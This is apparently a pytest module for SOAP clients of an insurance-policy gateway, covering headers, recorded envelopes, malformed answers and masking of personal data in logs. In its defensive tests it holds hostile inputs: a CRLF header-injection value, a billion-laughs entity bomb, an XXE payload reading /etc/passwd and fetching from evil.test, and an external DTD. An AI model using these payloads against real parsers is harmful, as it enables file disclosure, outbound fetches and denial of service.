"""What goes over the wire and into the log: headers, masking, recorded envelopes, hostile and invalid answers.

`responses` puts recorded envelopes from contracts/samples/ on the wire of the real zeep client; the masked log is
checked on a real call to the mocks.
"""

from __future__ import annotations

import logging
import time
from collections.abc import Callable, Iterator
from datetime import date
from typing import Any

import pytest
import responses
from lxml import etree

import contracts
from adapters import FundAdapter, InsurerDirectory
from adapters.insurer import InsurerAdapter
from adapters.plugins import mask_free_text, mask_name, mask_number, masked_xml
from gateway.correlation import correlation_id, set_correlation_id
from gateway.domain.model import (
    PolicyForm,
    PolicyStatus,
    RegistryApplicationType,
    RegistryReason,
    Source,
)
from gateway.domain.registry import InsurerApplication
from gateway.ports import BackendRefusal, BackendUnavailable
from tests.support.applicants import first_choice, message_id, new_person
from tests.support.persons import ANNA
from tests.support.services import RunningMocks
from tests.support.signing import signing_for

# The tests talk to the mocks over HTTP.
pytestmark = pytest.mark.network

FUND_URL = "http://fund.test/ws"
INSURER_URL = "http://insurer.test/ws"
SOAP_ENV = "http://schemas.xmlsoap.org/soap/envelope/"
XML = "text/xml; charset=utf-8"


def sample(kind: str, name: str) -> bytes:
    return contracts.path("samples", kind, name).read_bytes()


def payload(envelope: bytes) -> etree._Element:
    body = etree.fromstring(envelope).find(f"{{{SOAP_ENV}}}Body")
    assert body is not None
    return body[0]


def structure(element: etree._Element) -> tuple[Any, ...]:
    """An element as nested tuples of qualified tags and texts: equal for the same XML whatever its prefixes."""
    text = (element.text or "").strip()
    return (element.tag, text, tuple(structure(child) for child in element if isinstance(child.tag, str)))


@pytest.fixture
def wire() -> Iterator[responses.RequestsMock]:
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        yield mock


@pytest.fixture
def fund() -> Iterator[FundAdapter]:
    adapter = FundAdapter(FUND_URL, timeout=5, signing=None)
    yield adapter
    adapter.close()


@pytest.fixture
def smo() -> Iterator[InsurerAdapter]:
    directory = InsurerDirectory({"77001": INSURER_URL}, timeout=5, signing=None)
    found = directory.get("77001")
    assert found is not None
    yield found
    directory.close()


def answer(wire: responses.RequestsMock, url: str, body: bytes, status: int = 200) -> None:
    wire.add(responses.POST, url, body=body, status=status, content_type=XML)


# --- headers ------------------------------------------------------------------------------------------------


def test_every_request_carries_the_correlation_id_of_its_context_and_its_message_id(
    wire: responses.RequestsMock, fund: FundAdapter
) -> None:
    answer(wire, FUND_URL, sample("fund", "GetInsuranceStatus.response.xml"))
    token = set_correlation_id("req-7f3a9c")
    try:
        fund.insurance_status("status-0001", "7754900882000015")
    finally:
        correlation_id.reset(token)

    headers = wire.calls[0].request.headers
    assert headers["X-Correlation-ID"] == "req-7f3a9c"
    assert headers["X-Message-ID"] == "status-0001"
    assert headers["SOAPAction"] == '"urn:epolicy:fund:v1/GetInsuranceStatus"'


@pytest.mark.parametrize("value", [None, "bad\r\nX-Injected: 1"])
def test_no_correlation_header_is_sent_without_a_usable_id(
    wire: responses.RequestsMock, fund: FundAdapter, value: str | None
) -> None:
    answer(wire, FUND_URL, sample("fund", "GetInsuranceStatus.response.xml"))
    token = set_correlation_id(value)
    try:
        fund.insurance_status("status-0001", "7754900882000015")
    finally:
        correlation_id.reset(token)

    headers = wire.calls[0].request.headers
    assert "X-Correlation-ID" not in headers
    assert "X-Injected" not in headers
    assert headers["X-Message-ID"] == "status-0001"


# --- requests as the contract writes them -------------------------------------------------------------------


def test_a_person_is_sent_as_the_sample_verify_request_categorised(
    wire: responses.RequestsMock, fund: FundAdapter, caplog: pytest.LogCaptureFixture
) -> None:
    answer(wire, FUND_URL, sample("fund", "VerifyPerson.response.xml"))
    caplog.set_level(logging.DEBUG)  # the masked log must leave the envelope on the wire untouched

    verification = fund.verify_person("app_01JD3S7V6Q0000000000000001-verify", ANNA)

    sent = payload(wire.calls[0].request.body)
    assert structure(sent) == structure(payload(sample("fund", "VerifyPerson.request.xml")))
    assert verification.known is False


def test_an_issue_is_sent_as_the_sample_issue_request(wire: responses.RequestsMock, smo: InsurerAdapter) -> None:
    answer(wire, INSURER_URL, sample("insurer", "IssuePolicy.response.xml"))
    application = InsurerApplication(
        application_date=date(2026, 3, 2),
        reason=RegistryReason.FIRST_CHOICE,
        person=ANNA,
        region_code="77",
        policy_form=PolicyForm.ELECTRONIC,
    )

    smo.issue_policy("app_01JD3S7V6Q0000000000000001-issue", application)

    sent = payload(wire.calls[0].request.body)
    assert structure(sent) == structure(payload(sample("insurer", "IssuePolicy.request.xml")))


# --- recorded answers ---------------------------------------------------------------------------------------


def test_a_recorded_status_answer_reads_as_a_policy(wire: responses.RequestsMock, fund: FundAdapter) -> None:
    answer(wire, FUND_URL, sample("fund", "GetInsuranceStatus.response.xml"))

    policy = fund.insurance_status("status-0001", "7754900882000015")

    assert policy.enp == "7754900882000015"
    assert policy.status is PolicyStatus.ACTIVE
    assert policy.valid_from == date(2026, 3, 2)
    assert (policy.holder.last_name, policy.holder.birth_date) == ("Иванова", date(1990, 5, 17))
    assert policy.restrictions == ()


def test_a_recorded_registration_answer_reads_as_its_result(wire: responses.RequestsMock, fund: FundAdapter) -> None:
    answer(wire, FUND_URL, sample("fund", "RegisterPolicy.response.xml"))

    result = fund.register_policy("app_01JD3S7V6Q0000000000000001-register", first_choice(ANNA))

    assert (result.registration_id, result.enp, result.enp_assigned) == ("RG-20261124-000001", "7754900882000015", True)
    assert result.policy.insurer_code == "77001"


def test_a_recorded_person_answer_reads_as_the_registry_record(wire: responses.RequestsMock, fund: FundAdapter) -> None:
    answer(wire, FUND_URL, sample("fund", "FindPerson.response.xml"))

    person = fund.find_person("find-0001", "7754900882000015")

    assert person is not None
    assert person.person.identity_document.series == "4510"
    assert person.policy is not None
    assert person.policy.holder.middle_name == "Сергеевна"


def test_recorded_insurer_answers_read_as_insurer_results(wire: responses.RequestsMock, smo: InsurerAdapter) -> None:
    answer(wire, INSURER_URL, sample("insurer", "ReplacePolicy.response.xml"))
    answer(wire, INSURER_URL, sample("insurer", "GetApplicationState.response.xml"))
    replacement = InsurerApplication(
        application_date=date(2026, 4, 10),
        reason=RegistryReason.PERSONAL_DATA_CHANGE,
        person=ANNA,
        region_code="77",
        policy_form=PolicyForm.PLASTIC,
        enp="7754900882000015",
        type=RegistryApplicationType.REISSUE,
    )

    replaced = smo.replace_policy("app_01JD3S7V6Q0000000000000002-replace", replacement)
    state = smo.application_state("state-0001", "app_01JD3S7V6Q0000000000000001-issue")

    assert replaced.temporary_certificate is not None
    assert (replaced.temporary_certificate.number, replaced.temporary_certificate.valid_to) == (
        "770100002",
        date(2026, 5, 22),
    )
    assert state is not None
    assert (state.insurer_application_id, state.state, state.valid_from) == (
        "77001-20260302-000001",
        "executed",
        date(2026, 3, 2),
    )


def test_a_recorded_business_fault_is_a_refusal_on_the_mapped_field(
    wire: responses.RequestsMock, fund: FundAdapter
) -> None:
    answer(wire, FUND_URL, sample("fund", "BusinessFault.response.xml"), status=500)

    with pytest.raises(BackendRefusal) as refused:
        fund.verify_person("app_01JD3S7V6Q0000000000000003-verify", ANNA)

    assert (refused.value.source, refused.value.code, refused.value.field) == (
        Source.FUND,
        "SNILS_CHECKSUM",
        "person.snils",
    )
    assert refused.value.message == "Контрольное число СНИЛС не совпадает."


def test_a_recorded_insurer_business_fault_names_its_source(wire: responses.RequestsMock, smo: InsurerAdapter) -> None:
    answer(wire, INSURER_URL, sample("insurer", "BusinessFault.response.xml"), status=500)
    application = InsurerApplication(date(2026, 3, 2), RegistryReason.FIRST_CHOICE, ANNA, "50", PolicyForm.ELECTRONIC)

    with pytest.raises(BackendRefusal) as refused:
        smo.issue_policy("app_01JD3S7V6Q0000000000000004-issue", application)

    assert (refused.value.source, refused.value.code, refused.value.field) == (
        Source.INSURER,
        "REGION_NOT_SERVED",
        "region_code",
    )


@pytest.mark.parametrize("kind", ["fund", "insurer"])
def test_a_recorded_technical_fault_is_an_outage_with_its_retry_delay(
    wire: responses.RequestsMock, fund: FundAdapter, smo: InsurerAdapter, kind: str
) -> None:
    answer(wire, FUND_URL if kind == "fund" else INSURER_URL, sample(kind, "TechnicalFault.response.xml"), status=500)
    calls: dict[str, Callable[[], object]] = {
        "fund": lambda: fund.list_insurers("insurers-77-0001", "77"),
        "insurer": lambda: smo.application_state("state-0001", "app-1"),
    }

    with pytest.raises(BackendUnavailable) as failed:
        calls[kind]()

    assert failed.value.retry_after == 5.0
    assert failed.value.reason == "technical fault SERVICE_UNAVAILABLE"


def test_a_recorded_schema_violation_is_a_refusal_logged_at_error_without_the_value(
    wire: responses.RequestsMock, fund: FundAdapter, caplog: pytest.LogCaptureFixture
) -> None:
    answer(wire, FUND_URL, sample("fund", "SchemaViolation.response.xml"), status=500)

    with caplog.at_level(logging.ERROR, logger="epolicy.soap"), pytest.raises(BackendRefusal) as refused:
        fund.insurance_status("status-0002", "7754900882000015")

    assert (refused.value.code, refused.value.field) == ("SCHEMA_VIOLATION", "enp")
    errors = [record.getMessage() for record in caplog.records if record.levelno == logging.ERROR]
    assert len(errors) == 1
    assert "status-0002" in errors[0]
    assert "77549008820000" not in errors[0]


# --- answers that break the contract ------------------------------------------------------------------------

STATUS = sample("fund", "GetInsuranceStatus.response.xml")


@pytest.mark.parametrize(
    ("body", "status"),
    [
        pytest.param(STATUS.replace(b"<c:Status>active", b"<c:Status>revoked"), 200, id="unknown enumeration value"),
        pytest.param(STATUS.replace(b"<c:Enp>7754900882000015", b"<c:Enp>77549008"), 200, id="pattern mismatch"),
        pytest.param(STATUS.replace(b"2026-03-02", b"02.03.2026"), 200, id="unreadable date"),
        pytest.param(STATUS.replace(b"<c:Status>active</c:Status>", b""), 200, id="missing element"),
        pytest.param(STATUS.replace(b"GetInsuranceStatusResponse", b"VerifyPersonResponse"), 200, id="wrong answer"),
        pytest.param(
            sample("fund", "BusinessFault.response.xml").replace(b"<c:Code>SNILS_CHECKSUM</c:Code>", b""),
            500,
            id="business fault without code",
        ),
        pytest.param(b"<html><body>Bad gateway</body></html>", 502, id="HTML error page"),
        pytest.param(b"", 503, id="empty error"),
        pytest.param(b"<html><body>Hello</body></html>", 200, id="HTML page"),
        pytest.param(STATUS[: len(STATUS) // 2], 200, id="truncated"),
    ],
)
def test_an_answer_that_breaks_the_contract_is_an_outage_never_a_refusal(
    wire: responses.RequestsMock, fund: FundAdapter, body: bytes, status: int
) -> None:
    answer(wire, FUND_URL, body, status=status)

    with pytest.raises(BackendUnavailable) as failed:
        fund.insurance_status("status-0001", "7754900882000015")

    assert failed.value.source is Source.FUND
    assert failed.value.operation == "GetInsuranceStatus"


def test_a_registry_record_the_domain_cannot_hold_is_an_outage(wire: responses.RequestsMock, fund: FundAdapter) -> None:
    body = sample("fund", "FindPerson.response.xml").replace(b"passport_rf", b"foreign_birth_certificate")
    answer(wire, FUND_URL, body)

    with pytest.raises(BackendUnavailable, match="DocumentType"):
        fund.find_person("find-0001", "7754900882000015")


def test_a_person_found_without_a_record_is_an_outage(wire: responses.RequestsMock, fund: FundAdapter) -> None:
    body = sample("fund", "FindPerson.response.xml")
    start, end = body.index(b"<f:Person>"), body.index(b"</f:Person>") + len(b"</f:Person>")
    answer(wire, FUND_URL, body[:start] + body[end:])

    with pytest.raises(BackendUnavailable, match="no person"):
        fund.find_person("find-0001", "7754900882000015")


# --- hostile XML --------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:c="urn:epolicy:common:v1"
               xmlns:f="urn:epolicy:fund:v1">
  <soap:Body><f:GetInsuranceStatusResponse><f:MessageId>&lol9;</f:MessageId></f:GetInsuranceStatusResponse></soap:Body>
</soap:Envelope>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "http://evil.test/x">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:f="urn:epolicy:fund:v1">
  <soap:Body><f:GetInsuranceStatusResponse><f:MessageId>&secret;&remote;</f:MessageId></f:GetInsuranceStatusResponse></soap:Body>
</soap:Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soap:Envelope SYSTEM "http://evil.test/evil.dtd">
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["billion laughs", "XXE", "external DTD"])
def test_an_answer_with_a_doctype_is_an_outage_without_expansion_or_fetch(
    wire: responses.RequestsMock, fund: FundAdapter, body: bytes
) -> None:
    answer(wire, FUND_URL, body)
    wire.add(responses.GET, "http://evil.test/x", body="pwned")
    wire.add(responses.GET, "http://evil.test/evil.dtd", body='<!ENTITY x "pwned">')
    started = time.monotonic()

    with pytest.raises(BackendUnavailable) as failed:
        fund.insurance_status("status-0001", "7754900882000015")

    assert time.monotonic() - started < 1.0, "no expansion"
    assert [call.request.url for call in wire.calls] == [FUND_URL], "no outbound fetch"
    assert "pwned" not in failed.value.reason
    assert "root:" not in failed.value.reason


# --- the masked message log ---------------------------------------------------------------------------------


def test_the_message_log_of_real_calls_shows_no_personal_data_in_clear(
    mocks_server: RunningMocks, caplog: pytest.LogCaptureFixture
) -> None:
    person = new_person()
    fund = FundAdapter(mocks_server.fund_url, timeout=5, signing=signing_for(mocks_server.fund_url))
    caplog.set_level(logging.DEBUG)  # every logger, zeep's and urllib3's included

    registered = fund.register_policy(message_id("register"), first_choice(person))
    fund.close()

    logged = caplog.text
    assert "SOAP RegisterPolicy request" in logged
    assert "SOAP RegisterPolicy answer" in logged
    assert person.snils is not None
    clear_values = [
        person.last_name,
        person.first_name,
        person.middle_name,
        person.birth_date.isoformat(),
        person.birth_place,
        person.snils,
        person.snils.replace("-", "").replace(" ", ""),
        person.inn,
        person.identity_document.number,
        person.identity_document.series,
        "2811",
        person.identity_document.issuer,
        registered.enp,
    ]
    leaked = [value for value in clear_values if value and value in logged]
    assert leaked == []
    assert f"{person.last_name[0]}*****" in logged
    assert "****-**-**" in logged


def test_an_insurer_call_is_logged_masked_too(mocks_server: RunningMocks, caplog: pytest.LogCaptureFixture) -> None:
    person = new_person()
    directory = InsurerDirectory(
        {"77001": mocks_server.insurer_url("77001")},
        timeout=5,
        signing=signing_for({mocks_server.insurer_url("77001"): "insurers-77001"}),
    )
    smo = directory.get("77001")
    assert smo is not None
    caplog.set_level(logging.DEBUG, logger="epolicy.soap")

    smo.issue_policy(
        message_id("issue"),
        InsurerApplication(date.today(), RegistryReason.FIRST_CHOICE, person, "77", PolicyForm.PAPER),
    )
    directory.close()

    assert "SOAP IssuePolicy request" in caplog.text
    assert person.last_name not in caplog.text
    assert person.identity_document.number not in caplog.text


def test_masking_keeps_an_initial_or_the_last_two_characters() -> None:
    assert mask_name("Иванова") == "И*****"
    assert mask_name("Ли") == "Л*****"
    assert mask_number("11223344595") == "*********95"
    assert mask_number("IV-МЮ") == "**-МЮ"
    assert mask_free_text("Номер документа «123456» не подходит, дата 10.03.2025, ЕНП 7754900882000015.") == (
        "Номер документа «***» не подходит, дата **.**.****, ЕНП ***."
    )


def test_the_masked_log_of_a_sample_request_hides_every_personal_value() -> None:
    envelope = etree.fromstring(sample("fund", "RegisterPolicy.request.xml"))

    logged = masked_xml(envelope)

    for value in ("Иванова", "Анна", "Сергеевна", "1990-05-17", "г. Москва", "11223344595", "500100732259"):
        assert value not in logged
    for value in ("4510", "123456", "ОВД района Арбат"):
        assert value not in logged
    assert "<c:Category>citizen</c:Category>" in logged
    assert "Иванова" in etree.tostring(envelope, encoding="unicode"), "the envelope itself is left as it was"


def test_an_oversized_answer_is_an_outage_and_not_loaded_whole(wire: responses.RequestsMock, fund: FundAdapter) -> None:
    # One text node of 12 MB: past libxml2's limit without huge_tree, which the adapters never enable.
    huge = b"7" * (12 * 1024 * 1024)
    body = (
        b'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
        b'xmlns:f="urn:epolicy:fund:v1"><soap:Body><f:GetInsuranceStatusResponse><f:MessageId>'
        + huge
        + b"</f:MessageId></f:GetInsuranceStatusResponse></soap:Body></soap:Envelope>"
    )
    answer(wire, FUND_URL, body)
    with pytest.raises(BackendUnavailable):
        fund.insurance_status("status-0001", "7754900882000015")


def test_a_refused_connection_is_an_outage() -> None:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]  # free now, and nothing will listen on it
    adapter = FundAdapter(f"http://127.0.0.1:{port}/fund", timeout=2, signing=None)
    with pytest.raises(BackendUnavailable) as failed:
        adapter.insurance_status("status-0001", "7754900882000015")
    adapter.close()
    assert failed.value.source is Source.FUND
